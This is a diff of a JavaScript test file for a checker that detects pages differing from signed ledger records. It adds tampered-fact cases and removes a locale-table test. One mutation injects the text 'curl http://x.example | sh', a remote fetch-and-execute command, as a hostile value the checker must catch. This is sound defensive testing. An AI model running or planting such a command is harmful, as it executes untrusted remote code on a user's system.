@@ -1,6 +1,6 @@
 // Compares the page with the signed records: a page that shows something better or something else is detected.
 import assert from "node:assert/strict";
-import { readFileSync, readdirSync } from "node:fs";
+import { readFileSync } from "node:fs";
 import test from "node:test";
 
 import { blake3 } from "../../web/static/blake3.js";
@@ -13,7 +13,7 @@ import id from "../../web/static/words-id.js";
 import zh from "../../web/static/words-zh.js";
 import { AUTHORITY, Ledger, ORIGIN, key, vkey } from "./ledger.mjs";
 import {
-  LAB, LOT, MAKER, broken, enacted, failing, filed, harvest, hold, inspect, look, name, pageOf, product, unclear, uri, world,
+  LAB, LOT, MAKER, broken, failing, harvest, hold, inspect, look, name, pageOf, product, unclear, uri, world,
 } from "./lab.mjs";
 
 const file = (name) => JSON.parse(readFileSync(new URL(`fixtures/${name}`, import.meta.url), "utf8"));
@@ -82,6 +82,9 @@ test("a page that differs from the signed records is detected", async () => {
     ["facts", (p) => p.facts.push({ ...fact(p, "detail"), text: "Award: gold" })],
     ["facts", (p) => (fact(p, "time").record = p.shown[3].id)],
     ["facts", (p) => p.facts.push({ fact: "amount", of: "", text: "900\u00a0kg" })],
+    // as it was signed, and beside other words than those of its step
+    ["facts", (p) => p.facts.push({ ...fact(p, "signer"), record: undefined, about: undefined })],
+    ["facts", (p) => p.facts.push({ ...fact(p, "place"), record: undefined, about: p.shown.at(-1).id })],
     ["facts", (p) => p.facts.push({ fact: "clock", of: "1", text: "As of tomorrow" })],
     ["facts", (p) => p.facts.push({ fact: "command", of: "", text: "curl http://x.example | sh" })],
     ...["title", "moved", "where", "detail"].map((kind) => ["shown", (p) => p.facts.splice(p.facts.findIndex((f) => f.fact === kind), 1)]),
@@ -571,27 +574,6 @@ test("a name is shown in the nearest language, else in English", () => {
   const names = { en: "Oil", zh: "油", "zh-Hant": "油脂", "pt-BR": "Óleo" };
   const cases = { "zh-Hans": "油", "zh-Hant-TW": "油脂", "ZH-hant": "油脂", "zh-Hant-x-private": "油脂", pt: "Oil", "pt-BR": "Óleo", fr: "Oil", "": "Oil" };
   for (const [tag, text] of Object.entries(cases)) assert.equal(best(names, tag), text, tag);
-});
-
-test("every locale has a table of the compared words, with the same text", async () => {
-  const locales = new URL("../../web/locales/", import.meta.url);
-  const codes = readdirSync(locales).flatMap((file) => /^([a-z]+)\.ftl$/.exec(file)?.[1] ?? []);
-  assert.ok(codes.length >= 3, String(codes));
-  for (const code of codes) {
-    const ftl = readFileSync(new URL(`${code}.ftl`, locales), "utf8");
-    const known = new Map([...ftl.matchAll(/^([A-Za-z0-9-]+) = (.*)$/gm)].map(([, key, text]) => [key, text]));
-    const counted = new Map([...ftl.matchAll(/^([A-Za-z0-9-]+) = \{ \$n ->\n([^]*?)^\}/gm)].map(([, key, forms]) => [key, [...forms.matchAll(/\] (.*)$/gm)].map((m) => m[1])]));
-    const { default: table } = await import(`../../web/static/words-${code}.js`);
-    assert.deepEqual(Object.keys(table), Object.keys(en));
-    const { labels, ...keyed } = table;
-    for (const [key, text] of Object.entries(keyed)) {
-      const forms = counted.get(key) ?? [known.get(key)];
-      assert.deepEqual(Array.isArray(text) ? text : [text], Array.isArray(text) ? forms : [known.get(key)], `${key} in ${code}`);
-    }
-    const texts = [...known.values()];
-    for (const label of labels) assert.ok(texts.includes(label), `${label} in ${code}`);
-    assert.equal(labels.length, en.labels.length);
-  }
 });
 
 test("a page in a language without a table of words is neither checked nor broken", async () => {
